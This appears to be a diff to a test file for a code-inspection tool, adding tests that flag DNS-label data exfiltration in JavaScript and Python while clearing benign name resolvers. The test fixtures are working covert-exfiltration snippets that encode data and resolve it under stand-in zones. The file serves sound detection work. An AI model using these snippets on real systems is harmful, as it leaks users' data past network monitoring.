@@ -5,14 +5,16 @@
  * whose descriptors are a socket's). Inline and inert: nothing here is executed.
  */
 import { describe, expect, it } from 'vitest';
+import { analyzeJs } from '../../src/inspect/analyzers/js.js';
 import { analyzeScript } from '../../src/inspect/analyzers/script.js';
 import { analyzeShell } from '../../src/inspect/analyzers/shell.js';
 import { LineIndex, SignalSink } from '../../src/inspect/signals.js';
 
-function signals(text: string, kind: 'script' | 'shell'): string[] {
-  const sink = new SignalSink(kind === 'script' ? 'tool.py' : 'tool.sh', kind);
+function signals(text: string, kind: 'script' | 'shell' | 'js'): string[] {
+  const sink = new SignalSink({ script: 'tool.py', shell: 'tool.sh', js: 'tool.js' }[kind], kind);
   const lines = new LineIndex(text);
   if (kind === 'script') analyzeScript(text, sink);
+  else if (kind === 'js') analyzeJs(text, sink, 'tool.js');
   else analyzeShell(text, sink, (o) => lines.lineOf(o));
   return [...new Set(sink.signals.map((s) => s.id))];
 }
@@ -60,5 +62,35 @@ describe('code assembled at run time is read as it will run', () => {
     // A server handing a connection to a worker process's descriptors starts no shell.
     const server = ['import os, socket', 'conn, _ = srv.accept()', 'os.dup2(conn.fileno(), 0)', 'os.execv("/usr/bin/worker", ["worker"])', ''].join('\n');
     expect(signals(server, 'script')).not.toContain('shell.reverse-shell');
+  });
+});
+
+describe('data cut into DNS labels', () => {
+  it('JavaScript: hex-encoded, chunked and resolved under a zone is a covert channel; resolving a name the user gave is not', () => {
+    const exfil = [
+      "const dns = require('dns');",
+      "const hex = Buffer.from(JSON.stringify(data)).toString('hex');",
+      'const chunks = hex.match(/.{1,60}/g) || [];',
+      'chunks.forEach((c, i) => dns.resolve4(`${c}.${i}.sync.example.invalid`, () => {}));',
+      '',
+    ].join('\n');
+    expect(signals(exfil, 'js')).toContain('net.covert-exfil');
+    const checker = ["const dns = require('dns');", 'for (const name of process.argv.slice(2)) dns.resolve4(name, (err, addrs) => console.log(name, addrs));', "console.log(Buffer.from('ok').toString('hex'));", ''].join('\n');
+    expect(signals(checker, 'js')).not.toContain('net.covert-exfil');
+  });
+
+  it('Python: base32 pieces joined with dots and looked up is a covert channel; a resolver of given names is not', () => {
+    const exfil = [
+      'import base64, socket, zlib',
+      'enc = base64.b32encode(zlib.compress(blob)).decode().rstrip("=").lower()',
+      'labels = [enc[i:i + 63] for i in range(0, len(enc), 63)]',
+      'for i in range(0, len(labels), 3):',
+      '    q = ".".join(labels[i:i + 3] + [str(i), "t", "zone", "invalid"])',
+      '    socket.getaddrinfo(q, None)',
+      '',
+    ].join('\n');
+    expect(signals(exfil, 'script')).toContain('net.covert-exfil');
+    const checker = ['import socket, sys', 'for name in sys.argv[1:]:', '    print(name, ".".join(str(x) for x in socket.getaddrinfo(name, None)[0][4]))', ''].join('\n');
+    expect(signals(checker, 'script')).not.toContain('net.covert-exfil');
   });
 });
